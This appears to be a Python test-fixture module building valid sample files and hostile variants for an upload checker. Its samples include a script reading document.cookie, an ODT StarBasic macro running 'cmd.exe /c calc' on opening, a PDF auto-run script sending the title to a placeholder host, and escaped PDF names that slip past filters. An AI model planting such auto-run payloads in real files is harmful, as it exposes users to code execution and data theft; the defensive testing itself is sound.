"""Small real files of each accepted format, built in memory, and hostile ones built the same way."""
import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 1, height: int = 1, pixels: bytes | None = None) -> bytes:
    """A valid white RGB PNG (1×1 unless told); `pixels` replaces the compressed image data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    if pixels is None:
        pixels = zlib.compress((b"\x00" + b"\xff\xff\xff" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def jpeg(progressive: bool = False) -> bytes:
    """A real 48×48 JPEG, encoded by Pillow (with a restart interval, as cameras write them)."""
    out = io.BytesIO()
    image = Image.merge("RGB", [Image.linear_gradient("L").resize((48, 48))] * 3)
    image.save(out, "JPEG", quality=85, progressive=progressive, restart_marker_blocks=1)
    return out.getvalue()


def animated_png() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), colour) for colour in ("white", "black")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def _zip(entries: dict[str, bytes], stored_first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), entries.pop(stored_first),
                             compress_type=zipfile.ZIP_STORED)
        for name, body in entries.items():
            archive.writestr(name, body)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(extra: dict | None = None) -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
                 "word/document.xml": b"<w:document/>", **(extra or {})})


def xlsx() -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"})


ODT_TYPE = "application/vnd.oasis.opendocument.text"
ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"
NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
)
SCRIPT_NS = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
BASIC_MODULE = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
    b'script:language="StarBasic">Sub Main\n  Shell("cmd.exe /c calc")\nEnd Sub</script:module>'
)
ON_LOAD = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:load" xlink:type="simple" '
    'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    '</office:event-listeners>'
)


def odf(mimetype: str, *, scripts: str = "", body: str = "", extra: dict | None = None,
        manifest_extra: str = "", namespaces: str = SCRIPT_NS) -> bytes:
    """A minimal OpenDocument file as LibreOffice writes it: `mimetype` stored first, the
    namespaces declared, `<office:scripts/>` present (and empty unless `scripts` fills it)."""
    kind = "spreadsheet" if mimetype == ODS_TYPE else "text"
    body = body or ("<table:table table:name=\"Feuille1\"/>" if kind == "spreadsheet"
                    else "<text:p>Bonjour</text:p>")
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NAMESPACES}{namespaces} '
        f'office:version="1.3"><office:scripts>{scripts}</office:scripts>'
        f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{manifest_extra}</manifest:manifest>"
    )
    return _zip({"mimetype": mimetype.encode(), "content.xml": content.encode(),
                 "META-INF/manifest.xml": manifest.encode(), **(extra or {})}, stored_first="mimetype")


def odt(**hostile) -> bytes:
    return odf(ODT_TYPE, **hostile)


def ods(**hostile) -> bytes:
    return odf(ODS_TYPE, **hostile)


def odt_with_basic_macro() -> bytes:
    """What LibreOffice saves for a document with a StarBasic module run at opening."""
    return odt(scripts=ON_LOAD, extra={
        "Basic/script-lc.xml": b'<library:libraries xmlns:library="http://openoffice.org/2000/library"/>',
        "Basic/Standard/script-lb.xml": b'<library:library xmlns:library="http://openoffice.org/2000/library"/>',
        "Basic/Standard/Module1.xml": BASIC_MODULE,
    }, manifest_extra=(
        '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
    ))


def plain_zip() -> bytes:
    return _zip({"notes.txt": b"bonjour"})


# --- PDF with active content -------------------------------------------------------------------

def pdf_with(build) -> bytes:
    """A one-page PDF from pypdf's writer, after `build(writer)` added something to it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_opening_with_javascript() -> bytes:
    """A one-page PDF whose /OpenAction runs a script (sends the title to another site)."""
    def build(writer):
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://exemple.invalid/?' + this.info.Title);"),
        })
    return pdf_with(build)


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, object n being `objects[n - 1]` and object 1 the catalog, its
    cross-reference offsets computed: for what pypdf's writer would never write, such as a
    name spelled with # escapes (`/J#61vaScript` is `/JavaScript`)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def raw_pdf_opening_with(action: bytes, *more: bytes) -> bytes:
    """A hand-written one-page PDF whose catalog's /OpenAction is `action` (object 4), and
    `more` objects (5, 6…) that it may refer to."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                   b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", action, *more)
